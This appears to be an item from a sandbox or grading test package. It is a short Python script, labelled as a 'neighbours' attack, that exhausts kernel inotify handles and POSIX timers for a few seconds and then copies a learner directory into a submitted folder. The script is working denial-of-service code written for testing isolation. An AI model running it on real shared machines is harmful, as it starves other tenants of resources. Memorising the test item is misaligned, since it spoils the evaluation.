# attack: as many inotify and epoll handles and timers as can be had
# family: neighbours
# base: solved
# points: 7
# alone: yes
# limit: 15
# %% first
import ctypes, select, time
libc = ctypes.CDLL(None, use_errno=True)
handles = []
try:
    for number in range(500):
        handles.append(libc.inotify_init())
        libc.inotify_add_watch(handles[-1], b"/", 0xfff)
except Exception:
    pass
timers = []
for number in range(5_000):
    timer = ctypes.c_void_p()
    if libc.timer_create(1, None, ctypes.byref(timer)):
        break
    timers.append(timer)
time.sleep(3)
for timer in timers:
    libc.timer_delete(timer)
for handle in handles:
    if handle >= 0:
        libc.close(handle)
# %% build
import shutil
for number in range(2):
    shutil.copytree(learner, submitted / f"{learner.name}-{number}")
